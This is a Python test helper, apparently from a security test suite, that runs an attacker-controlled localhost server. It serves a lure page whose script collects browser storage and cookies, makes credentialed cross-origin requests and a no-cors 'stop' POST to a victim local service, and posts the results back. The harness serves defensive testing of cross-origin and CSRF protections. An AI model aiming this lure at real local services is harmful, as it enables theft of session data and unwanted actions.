"""Another user's server on another port of this machine, as a program of that user: it lures the maker's browser
and keeps what the browser hands over. Prints its port, then a JSON object for each request that it got; a JSON
array on its input, [family, method, path, port, headers, body], is a request that it makes itself, answered with
[status, text]. The family "hasty" is one that closes its end at once and reads nothing; "beside" and "hasty beside" come
from another address of this machine, or answer "no address" where it has none.
"""

import http.client
import http.server
import json
import socket
import sys
import threading

LURE = """<!doctype html><title>lure</title><img src="/picture"><script>
const own = (what) => fetch("/told", { method: "POST", body: JSON.stringify(what) });
(async () => {
  const got = { stored: Object.entries(localStorage).concat(Object.entries(sessionStorage)), cookie: document.cookie };
  for (const [name, options] of [
    ["plain", { credentials: "include" }],
    ["opaque", { credentials: "include", mode: "no-cors" }],
    ["header", { credentials: "include", headers: { "Bismar-Session": "0".repeat(64) } }],
    ["press", { credentials: "include", method: "POST", mode: "no-cors", body: '{"do":"stop"}' }],
  ]) {
    try {
      const answer = await fetch("http://127.0.0.1:VICTIM/" + (name === "press" ? "do" : "status"), options);
      got[name] = [answer.type, await answer.text()];
    } catch (error) { got[name] = [String(error)]; }
  }
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.src = "http://127.0.0.1:VICTIM/";
  await new Promise((done) => { frame.onload = frame.onerror = done; setTimeout(done, 3000); });
  try { got.frame = String(frame.contentWindow.localStorage.length); } catch (error) { got.frame = error.name; }
  await own(got);
  document.title = "lured";
})();
</script>"""


class Lure(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def told(self, body=None):
        line = {"path": self.path, "headers": list(self.headers.items()), "body": body}
        print(json.dumps(line), flush=True)

    def answer(self, text):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(text.encode())

    def do_GET(self):
        self.told()
        self.answer(LURE.replace("VICTIM", sys.argv[1]) if self.path == "/" else "")

    def do_POST(self):
        self.told(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.answer("")


def beside():
    """An address of this machine that is not a loopback one: no packet is sent to find it (RFC 5737: nobody's)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as far:
        try:
            far.connect(("198.51.100.1", 9))
        except OSError:
            return None
        return (far.getsockname()[0], 0)


def request(family, method, path, port, headers, body):
    source = None
    if family.endswith("beside"):
        source = beside()
        if source is None:
            return [0, "no address"]
    if family.startswith("hasty"):
        lines = [f"{method} {path} HTTP/1.1", f"Content-Length: {len(body)}"]
        lines += [f"{name}: {value}" for name, value in headers.items()]
        with socket.create_connection(("127.0.0.1", port), source_address=source) as line:
            line.sendall(("\r\n".join(lines) + "\r\n\r\n" + body).encode())
        return [0, ""]
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=30, source_address=source)
    if family == "mapped":
        line.sock = socket.socket(socket.AF_INET6)
        line.sock.settimeout(30)
        line.sock.connect(("::ffff:127.0.0.1", port))
    try:
        line.request(method, path, body or None, headers)
        answer = line.getresponse()
        return [answer.status, answer.read(4096).decode()]
    except (ConnectionError, http.client.HTTPException) as error:
        return [0, type(error).__name__]
    finally:
        line.close()


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Lure)
server.daemon_threads = True
threading.Thread(target=server.serve_forever, daemon=True).start()
print(json.dumps({"port": server.server_port}), flush=True)
for said in sys.stdin:
    print(json.dumps({"answered": request(*json.loads(said))}), flush=True)
